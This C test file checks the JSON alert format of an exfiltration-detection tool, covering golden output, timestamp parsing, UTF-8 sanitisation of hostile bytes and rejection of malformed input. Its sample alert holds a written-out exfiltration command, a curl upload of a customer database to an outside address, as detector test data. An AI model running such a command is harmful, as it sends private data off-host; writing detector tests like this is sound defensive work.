// SPDX-License-Identifier: GPL-2.0-only
/*
 * The JSON form of an alert (docs/alerts.md): exact output, exact round
 * trips, and valid UTF-8 JSON whatever bytes the kernel handed us. The
 * JSON-lines log, which maps it to ECS, is tested in test_jsonlog.c.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "kselftest_harness.h"
#include "json_strict.h"
#include "alert_eq.h"
#include "alert.h"

#define JSON_FLAGS (JSON_C_TO_STRING_PLAIN | JSON_C_TO_STRING_NOSLASHESCAPE)

/* The alert every test starts from; its JSON form is GOLDEN below. */
static void make_alert(struct alert *a)
{
	memset(a, 0, sizeof(*a));
	a->id = 7;
	a->time_us = 1796383658123456;		/* 2026-12-04T11:27:38.123456Z */
	a->updated_us = 1796383700000001;	/* 42 s later */
	a->severity = SEV_HIGH;
	a->pid = 4242;
	a->ppid = 4200;
	a->uid = 1001;
	strcpy(a->user, "mallory");
	strcpy(a->comm, "curl");
	strcpy(a->exe, "/usr/bin/curl");
	strcpy(a->cmdline, "curl -T /srv/db/customers.db https://203.0.113.9/up");
	strcpy(a->host, "203.0.113.9");
	a->bytes_read = 6291456;
	a->bytes_sent = 6300512;
	strcpy(a->sensor, "bpf");
	strcpy(a->reason, "read 6.0 MiB of watched data, then sent 6.0 MiB "
			  "to 203.0.113.9");
	a->first_ns = 123456789;
	a->last_ns = 987654321;

	a->nr_files = 2;
	a->files = calloc(2, sizeof(*a->files));
	strcpy(a->files[0].path, "/srv/db/customers.db");
	a->files[0].bytes_read = 5242880;
	strcpy(a->files[1].path, "/srv/db/orders.db");
	a->files[1].bytes_read = 1048576;

	a->nr_dests = 2;
	a->dests = calloc(2, sizeof(*a->dests));
	strcpy(a->dests[0].addr, "203.0.113.9");
	a->dests[0].port = 443;
	a->dests[0].proto = EXFILMON_PROTO_TCP;
	a->dests[0].bytes_sent = 6300000;
	strcpy(a->dests[1].addr, "2001:db8::1");
	a->dests[1].port = 53;
	a->dests[1].proto = EXFILMON_PROTO_UDP;
	a->dests[1].bytes_sent = 512;

	a->nr_ancestry = 2;
	a->ancestry = calloc(2, sizeof(*a->ancestry));
	a->ancestry[0] = (struct alert_proc){ 4242, 4200, 1001, "curl",
					      "/usr/bin/curl" };
	a->ancestry[1] = (struct alert_proc){ 4200, 1, 1001, "bash",
					      "/usr/bin/bash" };

	a->taint = 9437184;
	a->senders = 2;
	a->nr_chain = 3;
	a->chain = calloc(3, sizeof(*a->chain));
	a->chain[0] = (struct alert_step){
		.pid = 4100, .via = VIA_READ, .bytes = 5242880,
		.comm = "sqlite3", .exe = "/usr/bin/sqlite3",
		.object = "/srv/db/customers.db" };
	a->chain[1] = (struct alert_step){
		.pid = 4101, .via = VIA_FILE, .bytes = 5242880,
		.comm = "gzip", .exe = "/usr/bin/gzip", .object = "/tmp/x.gz" };
	a->chain[2] = (struct alert_step){
		.pid = 4242, .via = VIA_TCP, .bytes = 6291456,
		.comm = "curl", .exe = "/usr/bin/curl" };
}

static const char GOLDEN[] =
	"{\"id\":7,\"time\":\"2026-12-04T11:27:38.123456Z\","
	"\"updated\":\"2026-12-04T11:28:20.000001Z\",\"severity\":\"high\","
	"\"pid\":4242,\"ppid\":4200,\"uid\":1001,\"user\":\"mallory\","
	"\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\","
	"\"cmdline\":\"curl -T /srv/db/customers.db https://203.0.113.9/up\","
	"\"host\":\"203.0.113.9\","
	"\"files\":[{\"path\":\"/srv/db/customers.db\",\"bytes_read\":5242880},"
	"{\"path\":\"/srv/db/orders.db\",\"bytes_read\":1048576}],"
	"\"bytes_read\":6291456,\"taint\":9437184,"
	"\"destinations\":[{\"addr\":\"203.0.113.9\",\"port\":443,"
	"\"proto\":\"tcp\",\"bytes_sent\":6300000},{\"addr\":\"2001:db8::1\","
	"\"port\":53,\"proto\":\"udp\",\"bytes_sent\":512}],"
	"\"bytes_sent\":6300512,\"senders\":2,\"action\":\"detected\","
	"\"refused\":0,\"sensor\":\"bpf\","
	"\"reason\":\"read 6.0 MiB of watched data, then sent 6.0 MiB to "
	"203.0.113.9\","
	"\"chain\":[{\"pid\":4100,\"comm\":\"sqlite3\","
	"\"exe\":\"/usr/bin/sqlite3\",\"via\":\"read\","
	"\"object\":\"/srv/db/customers.db\",\"bytes\":5242880},"
	"{\"pid\":4101,\"comm\":\"gzip\",\"exe\":\"/usr/bin/gzip\","
	"\"via\":\"file\",\"object\":\"/tmp/x.gz\",\"bytes\":5242880},"
	"{\"pid\":4242,\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\","
	"\"via\":\"tcp-loopback\",\"object\":\"\",\"bytes\":6291456}],"
	"\"ancestry\":[{\"pid\":4242,\"ppid\":4200,\"uid\":1001,"
	"\"comm\":\"curl\",\"exe\":\"/usr/bin/curl\"},{\"pid\":4200,"
	"\"ppid\":1,\"uid\":1001,\"comm\":\"bash\",\"exe\":\"/usr/bin/bash\"}],"
	"\"first_ns\":123456789,\"last_ns\":987654321}";

/*
 * Strict UTF-8 check written independently of alert.c (decode, then reject
 * overlong forms, surrogates and code points past U+10FFFF); glibc's iconv
 * lets some of these through.
 */
static bool valid_utf8(const char *str, size_t len)
{
	const unsigned char *s = (const unsigned char *)str;
	size_t i = 0, n, k;
	uint32_t cp, min;

	while (i < len) {
		if (s[i] < 0x80) {
			i++;
			continue;
		}
		if ((s[i] & 0xe0) == 0xc0) {
			n = 2, cp = s[i] & 0x1f, min = 0x80;
		} else if ((s[i] & 0xf0) == 0xe0) {
			n = 3, cp = s[i] & 0x0f, min = 0x800;
		} else if ((s[i] & 0xf8) == 0xf0) {
			n = 4, cp = s[i] & 0x07, min = 0x10000;
		} else {
			return false;
		}
		if (i + n > len)
			return false;
		for (k = 1; k < n; k++) {
			if ((s[i + k] & 0xc0) != 0x80)
				return false;
			cp = cp << 6 | (s[i + k] & 0x3f);
		}
		if (cp < min || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff))
			return false;
		i += n;
	}
	return true;
}

/* The JSON text of a, as a malloc'd string. */
static char *alert_json_text(const struct alert *a)
{
	struct json_object *obj = alert_to_json(a);
	char *s;

	if (!obj)
		return NULL;
	s = strdup(json_object_to_json_string_ext(obj, JSON_FLAGS));
	json_object_put(obj);
	return s;
}

TEST(severity_and_proto_names)
{
	EXPECT_STREQ("low", alert_severity_name(SEV_LOW));
	EXPECT_STREQ("medium", alert_severity_name(SEV_MEDIUM));
	EXPECT_STREQ("high", alert_severity_name(SEV_HIGH));
	EXPECT_STREQ("critical", alert_severity_name(SEV_CRITICAL));
	EXPECT_STREQ("unknown", alert_severity_name(0));
	EXPECT_STREQ("unknown", alert_severity_name(5));
	EXPECT_EQ(SEV_LOW, alert_severity_parse("low"));
	EXPECT_EQ(SEV_CRITICAL, alert_severity_parse("critical"));
	EXPECT_EQ(-EINVAL, alert_severity_parse("High"));
	EXPECT_EQ(-EINVAL, alert_severity_parse("unknown"));
	EXPECT_EQ(-EINVAL, alert_severity_parse(""));
	EXPECT_EQ(-EINVAL, alert_severity_parse(NULL));

	EXPECT_STREQ("tcp", alert_proto_name(EXFILMON_PROTO_TCP));
	EXPECT_STREQ("udp", alert_proto_name(EXFILMON_PROTO_UDP));
	EXPECT_STREQ("unknown", alert_proto_name(1));
	EXPECT_EQ(EXFILMON_PROTO_TCP, alert_proto_parse("tcp"));
	EXPECT_EQ(EXFILMON_PROTO_UDP, alert_proto_parse("udp"));
	EXPECT_EQ(-EINVAL, alert_proto_parse("TCP"));
	EXPECT_EQ(-EINVAL, alert_proto_parse(NULL));
}

TEST(channel_names)
{
	static const char *const names[VIA_NR] = {
		"?", "read", "fork", "file", "pipe", "unix", "tcp-loopback",
		"udp-loopback", "shm", "exec",
	};
	int i;

	/* the sensor's channels keep their numbers */
	EXPECT_EQ(EXFILMON_CHAN_PIPE, VIA_PIPE);
	EXPECT_EQ(EXFILMON_CHAN_SHM, VIA_SHM);
	for (i = 0; i < VIA_NR; i++) {
		EXPECT_STREQ(names[i], alert_via_name(i));
		EXPECT_EQ(i, alert_via_parse(names[i]));
	}
	EXPECT_STREQ("?", alert_via_name(VIA_NR));
	EXPECT_EQ(-EINVAL, alert_via_parse("tcp"));
	EXPECT_EQ(-EINVAL, alert_via_parse(""));
	EXPECT_EQ(-EINVAL, alert_via_parse(NULL));
}

#define ARROW "\xe2\x86\x92"	/* → */

TEST(chain_as_one_line)
{
	struct alert a;
	char *line;

	make_alert(&a);
	line = alert_chain_line(a.chain, a.nr_chain, "203.0.113.9:443", NULL,
				0);
	ASSERT_NE(NULL, line);
	EXPECT_STREQ("sqlite3[4100] read 5.0 MiB of /srv/db/customers.db "
		     ARROW "file /tmp/x.gz 5.0 MiB" ARROW " gzip[4101] "
		     ARROW "tcp-loopback 6.0 MiB" ARROW " curl[4242] "
		     ARROW " 203.0.113.9:443", line);
	free(line);
	/* plain ASCII, an exec, an unknown link, no destination */
	a.chain[0] = (struct alert_step){ .pid = 0 };
	a.chain[1].via = VIA_EXEC;
	strcpy(a.chain[2].comm, "");
	line = alert_chain_line(a.chain, a.nr_chain, NULL, NULL, 1);
	ASSERT_NE(NULL, line);
	EXPECT_STREQ("? ->exec-> gzip[4101] ->tcp-loopback 6.0 MiB-> ?[4242]",
		     line);
	free(line);
	line = alert_chain_line(NULL, 0, "203.0.113.9:443", NULL, 1);
	ASSERT_NE(NULL, line);
	EXPECT_STREQ("-> 203.0.113.9:443", line);
	free(line);
	alert_free(&a);
}

TEST(format_rfc3339_utc_microseconds)
{
	char buf[ALERT_TIME_LEN];

	format_rfc3339(0, buf, sizeof(buf));
	EXPECT_STREQ("1970-01-01T00:00:00.000000Z", buf);
	format_rfc3339(1796383658123456, buf, sizeof(buf));
	EXPECT_STREQ("2026-12-04T11:27:38.123456Z", buf);
	format_rfc3339(1700000000000001, buf, sizeof(buf));
	EXPECT_STREQ("2023-11-14T22:13:20.000001Z", buf);
	/* Before the epoch the fraction still counts up from the second. */
	format_rfc3339(-1, buf, sizeof(buf));
	EXPECT_STREQ("1969-12-31T23:59:59.999999Z", buf);
	/* A short buffer is cut, never overrun. */
	format_rfc3339(0, buf, 11);
	EXPECT_STREQ("1970-01-01", buf);
}

TEST(parse_rfc3339_accepts_and_refuses)
{
	int64_t us;

	ASSERT_EQ(0, parse_rfc3339("2026-12-04T11:27:38.123456Z", &us));
	EXPECT_EQ(1796383658123456, us);
	ASSERT_EQ(0, parse_rfc3339("1969-12-31T23:59:59.999999Z", &us));
	EXPECT_EQ(-1, us);
	ASSERT_EQ(0, parse_rfc3339("2026-12-04T11:27:38Z", &us));
	EXPECT_EQ(1796383658000000, us);
	/* Nanoseconds are truncated to microseconds. */
	ASSERT_EQ(0, parse_rfc3339("2026-12-04T11:27:38.123456789Z", &us));
	EXPECT_EQ(1796383658123456, us);
	ASSERT_EQ(0, parse_rfc3339("2026-12-04T11:27:38.5z", &us));
	EXPECT_EQ(1796383658500000, us);
	/* 12:27:38+01:00 is 11:27:38 UTC. */
	ASSERT_EQ(0, parse_rfc3339("2026-12-04T12:27:38+01:00", &us));
	EXPECT_EQ(1796383658000000, us);
	ASSERT_EQ(0, parse_rfc3339("2026-12-04T06:57:38-04:30", &us));
	EXPECT_EQ(1796383658000000, us);

	us = 42;
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-02-30T00:00:00Z", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-13-01T00:00:00Z", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-12-04T24:00:00Z", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-12-04T11:27:38", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-12-04T11:27:38.Z", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-12-04T11:27:38Zjunk", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-12-04 11:27:38Z", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("+026-12-04T11:27:38Z", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-12- 4T11:27:38Z", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("2026-12-04T11:27:38+0100", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339("", &us));
	EXPECT_EQ(-EINVAL, parse_rfc3339(NULL, &us));
	EXPECT_EQ(42, us);
}

TEST(copy_is_deep_and_free_accepts_empty)
{
	struct alert a, c, zero;

	make_alert(&a);
	ASSERT_EQ(0, alert_copy(&c, &a));
	ASSERT_NE(a.files, c.files);
	ASSERT_NE(a.dests, c.dests);
	ASSERT_NE(a.ancestry, c.ancestry);
	ASSERT_NE(a.chain, c.chain);
	assert_alert_eq(_metadata, &a, &c);
	strcpy(a.files[0].path, "/changed");
	a.dests[1].port = 1;
	a.ancestry[0].pid = 1;
	strcpy(a.chain[1].object, "/changed");
	EXPECT_STREQ("/srv/db/customers.db", c.files[0].path);
	EXPECT_EQ(53, c.dests[1].port);
	EXPECT_EQ(4242, c.ancestry[0].pid);
	EXPECT_STREQ("/tmp/x.gz", c.chain[1].object);
	alert_free(&a);
	alert_free(&c);
	EXPECT_EQ(NULL, c.files);
	EXPECT_EQ(0, c.nr_files);

	memset(&zero, 0, sizeof(zero));
	ASSERT_EQ(0, alert_copy(&c, &zero));
	EXPECT_EQ(NULL, c.files);
	alert_free(&c);
	alert_free(&zero);
	alert_free(NULL);
}

TEST(to_json_is_the_documented_object)
{
	struct alert a;
	char *text;

	make_alert(&a);
	text = alert_json_text(&a);
	ASSERT_NE(NULL, text);
	EXPECT_STREQ(GOLDEN, text);
	free(text);
	alert_free(&a);
}

TEST(u64_counters_survive_beyond_int64)
{
	struct alert a, b;
	struct json_object *obj;

	make_alert(&a);
	a.bytes_read = UINT64_MAX;
	a.last_ns = (uint64_t)INT64_MAX + 1;
	a.files[1].bytes_read = UINT64_MAX - 1;
	obj = alert_to_json(&a);
	ASSERT_NE(NULL, obj);
	EXPECT_NE(NULL, strstr(json_object_to_json_string_ext(obj, JSON_FLAGS),
			       "\"bytes_read\":18446744073709551615,"));
	ASSERT_EQ(0, alert_from_json(obj, &b));
	assert_alert_eq(_metadata, &a, &b);
	json_object_put(obj);
	alert_free(&a);
	alert_free(&b);
}

TEST(round_trip_through_text_is_exact)
{
	struct json_object *obj;
	struct alert a, b;
	char *text, *again;

	make_alert(&a);
	text = alert_json_text(&a);
	ASSERT_NE(NULL, text);
	obj = json_parse_strict(text);
	ASSERT_NE(NULL, obj);
	ASSERT_EQ(0, alert_from_json(obj, &b));
	json_object_put(obj);
	assert_alert_eq(_metadata, &a, &b);
	again = alert_json_text(&b);
	ASSERT_NE(NULL, again);
	EXPECT_STREQ(text, again);
	free(text);
	free(again);
	alert_free(&a);
	alert_free(&b);
}

TEST(empty_arrays_round_trip)
{
	struct json_object *obj;
	struct alert a, b;

	make_alert(&a);
	alert_free(&a);
	obj = alert_to_json(&a);
	ASSERT_NE(NULL, obj);
	EXPECT_NE(NULL, strstr(json_object_to_json_string_ext(obj, JSON_FLAGS),
			       "\"files\":[],"));
	ASSERT_EQ(0, alert_from_json(obj, &b));
	EXPECT_EQ(NULL, b.files);
	EXPECT_EQ(0, b.nr_files);
	EXPECT_EQ(0, b.nr_dests);
	EXPECT_EQ(0, b.nr_ancestry);
	EXPECT_EQ(NULL, b.chain);
	EXPECT_EQ(0, b.nr_chain);
	json_object_put(obj);
}

/* Bytes a user can put in comm, argv, exe and file names. */
TEST(hostile_strings_give_valid_json)
{
	struct json_object *obj, *v;
	struct alert a, b;
	char *text, *again;

	make_alert(&a);
	strcpy(a.comm, "a\nb\x1b[31m\x7f");
	/* Stray continuation, lone lead byte, 0xff, overlong '/'. */
	strcpy(a.exe, "/tmp/\x80x\xc3(\xff\xc0\xaf");
	/* Surrogate, > U+10FFFF, a valid emoji, truncated 3-byte sequence. */
	strcpy(a.cmdline, "\xed\xa0\x80|\xf4\x90\x80\x80|\xf0\x9f\x98\x80|\xe2\x82");
	strcpy(a.files[0].path, "/srv/\"quoted\"\\back\tslash\r\n");
	strcpy(a.ancestry[1].comm, "\xfe\xfe");
	strcpy(a.user, "caf\xc3\xa9");
	strcpy(a.chain[1].object, "/tmp/\x1b[2J\xff");

	text = alert_json_text(&a);
	ASSERT_NE(NULL, text);
	EXPECT_TRUE(valid_utf8(text, strlen(text)));
	EXPECT_EQ(NULL, strchr(text, '\n'));
	EXPECT_EQ(NULL, strchr(text, '\x1b'));
	EXPECT_NE(NULL, strstr(text, "\"comm\":\"a\\nb\\u001b[31m\x7f\""));
	EXPECT_NE(NULL, strstr(text, "\"exe\":\"/tmp/\xef\xbf\xbdx\xef\xbf\xbd("
				     "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\""));
	EXPECT_NE(NULL, strstr(text, "\"cmdline\":\"\xef\xbf\xbd\xef\xbf\xbd"
				     "\xef\xbf\xbd|\xef\xbf\xbd\xef\xbf\xbd"
				     "\xef\xbf\xbd\xef\xbf\xbd|\xf0\x9f\x98\x80|"
				     "\xef\xbf\xbd\xef\xbf\xbd\""));
	EXPECT_NE(NULL, strstr(text, "\"path\":\"/srv/\\\"quoted\\\"\\\\back"
				     "\\tslash\\r\\n\""));
	EXPECT_NE(NULL, strstr(text, "\"user\":\"caf\xc3\xa9\""));
	EXPECT_NE(NULL, strstr(text, "\"object\":\"/tmp/\\u001b[2J"
				     "\xef\xbf\xbd\""));

	obj = json_parse_strict(text);
	ASSERT_NE(NULL, obj);
	ASSERT_TRUE(json_object_object_get_ex(obj, "comm", &v));
	EXPECT_STREQ("a\nb\x1b[31m\x7f", json_object_get_string(v));
	ASSERT_EQ(0, alert_from_json(obj, &b));
	json_object_put(obj);
	/* Valid bytes come back as they were... */
	EXPECT_STREQ(a.comm, b.comm);
	EXPECT_STREQ(a.files[0].path, b.files[0].path);
	EXPECT_STREQ(a.user, b.user);
	/* ...invalid ones as U+FFFD, so the JSON text is a fixed point. */
	EXPECT_STREQ("\xef\xbf\xbd\xef\xbf\xbd", b.ancestry[1].comm);
	again = alert_json_text(&b);
	ASSERT_NE(NULL, again);
	EXPECT_STREQ(text, again);
	free(text);
	free(again);
	alert_free(&a);
	alert_free(&b);
}

/* Each bad byte grows to three: a full comm no longer fits its field. */
TEST(replacement_too_long_for_field_is_cut_at_a_character)
{
	struct json_object *obj, *v;
	struct alert a, b;

	make_alert(&a);
	memset(a.comm, 0xff, EXFILMON_COMM_LEN - 1);
	a.comm[EXFILMON_COMM_LEN - 1] = '\0';
	obj = alert_to_json(&a);
	ASSERT_NE(NULL, obj);
	ASSERT_TRUE(json_object_object_get_ex(obj, "comm", &v));
	EXPECT_EQ(45, json_object_get_string_len(v));
	ASSERT_EQ(0, alert_from_json(obj, &b));
	EXPECT_STREQ("\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
		     "\xef\xbf\xbd", b.comm);
	json_object_put(obj);

	/* A 2-byte character straddling the end is dropped whole. */
	strcpy(b.comm, "x");
	obj = alert_to_json(&b);
	ASSERT_NE(NULL, obj);
	json_object_object_add(obj, "comm",
			       json_object_new_string("abcdefghijklmn\xc3\xa9"));
	alert_free(&b);
	ASSERT_EQ(0, alert_from_json(obj, &b));
	EXPECT_STREQ("abcdefghijklmn", b.comm);
	json_object_put(obj);
	alert_free(&a);
	alert_free(&b);
}

TEST(json_string_from_bytes_keeps_length_and_nul)
{
	struct json_object *s = json_string_from_bytes("a\0b\xff", 4);

	ASSERT_NE(NULL, s);
	EXPECT_EQ(6, json_object_get_string_len(s));
	EXPECT_EQ(0, memcmp("a\0b\xef\xbf\xbd", json_object_get_string(s), 6));
	EXPECT_STREQ("\"a\\u0000b\xef\xbf\xbd\"",
		     json_object_to_json_string_ext(s, JSON_FLAGS));
	json_object_put(s);
}

/* One field broken at a time: each must be refused, none may crash. */
FIXTURE(bad_json) {
	struct json_object *obj;
};

FIXTURE_VARIANT(bad_json) {
	const char *key;	/* top-level key, or "files"... for element */
	const char *subkey;	/* key inside element 0, or NULL */
	const char *value;	/* JSON text replacing it, NULL: delete it */
};

FIXTURE_SETUP(bad_json)
{
	struct alert a;

	make_alert(&a);
	self->obj = alert_to_json(&a);
	ASSERT_NE(NULL, self->obj);
	alert_free(&a);
}

FIXTURE_TEARDOWN(bad_json)
{
	json_object_put(self->obj);
}

#define BAD(name, k, sk, v) \
	FIXTURE_VARIANT_ADD(bad_json, name) { .key = k, .subkey = sk, \
					     .value = v }

BAD(missing_id, "id", NULL, NULL);
BAD(id_string, "id", NULL, "\"7\"");
BAD(time_number, "time", NULL, "1796383658");
BAD(time_no_zone, "time", NULL, "\"2026-12-04T11:27:38\"");
BAD(updated_garbage, "updated", NULL, "\"yesterday\"");
BAD(severity_unknown, "severity", NULL, "\"unknown\"");
BAD(severity_number, "severity", NULL, "3");
BAD(pid_negative, "pid", NULL, "-1");
BAD(pid_too_big, "pid", NULL, "4294967296");
BAD(uid_double, "uid", NULL, "1001.0");
BAD(user_null, "user", NULL, "null");
BAD(missing_reason, "reason", NULL, NULL);
BAD(bytes_read_negative, "bytes_read", NULL, "-5");
BAD(files_object, "files", NULL, "{}");
BAD(missing_destinations, "destinations", NULL, NULL);
BAD(file_path_number, "files", "path", "1");
BAD(file_element_string, "files", "", "\"x\"");
BAD(dest_port_too_big, "destinations", "port", "65536");
BAD(dest_proto_icmp, "destinations", "proto", "\"icmp\"");
BAD(dest_missing_addr, "destinations", "addr", NULL);
BAD(ancestry_pid_string, "ancestry", "pid", "\"1\"");
BAD(ancestry_missing_exe, "ancestry", "exe", NULL);
BAD(last_ns_missing, "last_ns", NULL, NULL);
BAD(taint_missing, "taint", NULL, NULL);
BAD(taint_negative, "taint", NULL, "-1");
BAD(senders_string, "senders", NULL, "\"2\"");
BAD(senders_too_big, "senders", NULL, "4294967296");
BAD(action_unknown, "action", NULL, "\"allowed\"");
BAD(action_number, "action", NULL, "1");
BAD(refused_negative, "refused", NULL, "-1");
BAD(missing_chain, "chain", NULL, NULL);
BAD(chain_object, "chain", NULL, "{}");
BAD(chain_step_string, "chain", "", "\"sqlite3\"");
BAD(chain_via_unknown, "chain", "via", "\"teleport\"");
BAD(chain_via_number, "chain", "via", "4");
BAD(chain_missing_object, "chain", "object", NULL);
BAD(chain_pid_negative, "chain", "pid", "-4100");
BAD(chain_bytes_string, "chain", "bytes", "\"5 MiB\"");

TEST_F(bad_json, refused)
{
	struct json_object *target = self->obj, *arr, *v = NULL;
	const char *key = variant->key;
	struct alert a;

	if (variant->subkey) {
		ASSERT_TRUE(json_object_object_get_ex(self->obj, key, &arr));
		if (!*variant->subkey) {
			v = json_tokener_parse(variant->value);
			ASSERT_EQ(0, json_object_array_put_idx(arr, 0, v));
			v = NULL;
			goto parse;
		}
		target = json_object_array_get_idx(arr, 0);
		key = variant->subkey;
	}
	if (variant->value) {
		v = json_tokener_parse(variant->value);
		/* "null" parses to NULL, which json-c stores as JSON null. */
		ASSERT_EQ(0, json_object_object_add(target, key, v));
	} else {
		json_object_object_del(target, key);
	}
parse:
	memset(&a, 0x5a, sizeof(a));
	EXPECT_EQ(-EINVAL, alert_from_json(self->obj, &a));
	/* A refused parse leaves nothing to free. */
	EXPECT_EQ(NULL, a.files);
	EXPECT_EQ(NULL, a.dests);
	EXPECT_EQ(NULL, a.ancestry);
	EXPECT_EQ(NULL, a.chain);
	EXPECT_EQ(0, a.id);
}

/* A chain is at most ALERT_CHAIN_MAX steps: a longer one is not ours. */
TEST(chain_longer_than_kept_is_refused)
{
	struct json_object *obj, *arr;
	struct alert a;
	int i;

	make_alert(&a);
	obj = alert_to_json(&a);
	alert_free(&a);
	ASSERT_NE(NULL, obj);
	ASSERT_TRUE(json_object_object_get_ex(obj, "chain", &arr));
	for (i = 3; i < ALERT_CHAIN_MAX; i++)
		json_object_array_add(arr, json_object_get(
			json_object_array_get_idx(arr, 2)));
	ASSERT_EQ(0, alert_from_json(obj, &a));
	EXPECT_EQ(ALERT_CHAIN_MAX, a.nr_chain);
	alert_free(&a);
	json_object_array_add(arr, json_object_get(
		json_object_array_get_idx(arr, 2)));
	EXPECT_EQ(-EINVAL, alert_from_json(obj, &a));
	EXPECT_EQ(NULL, a.chain);
	json_object_put(obj);
}

TEST(from_json_ignores_extra_keys)
{
	struct json_object *obj;
	struct alert a, b;

	make_alert(&a);
	obj = alert_to_json(&a);
	ASSERT_NE(NULL, obj);
	json_object_object_add(obj, "event", json_object_new_string("new"));
	ASSERT_EQ(0, alert_from_json(obj, &b));
	assert_alert_eq(_metadata, &a, &b);
	json_object_put(obj);
	alert_free(&b);
	EXPECT_EQ(-EINVAL, alert_from_json(NULL, &b));
	obj = json_object_new_array();
	EXPECT_EQ(-EINVAL, alert_from_json(obj, &b));
	json_object_put(obj);
	alert_free(&a);
	alert_free(&b);
}

TEST_HARNESS_MAIN
